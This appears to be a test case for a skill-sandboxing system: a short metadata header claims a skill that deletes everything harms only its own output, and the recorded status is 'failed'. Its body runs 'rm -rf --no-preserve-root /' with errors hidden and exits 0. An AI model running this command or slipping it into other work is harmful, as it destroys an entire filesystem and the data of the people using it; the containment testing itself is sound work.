# /// case
# promise = "a skill that deletes all it can harms its own output only"
# status = "failed"
# reason = "output"
# says = "missing"
# ///
rm -rf --no-preserve-root / 2>/dev/null
exit 0
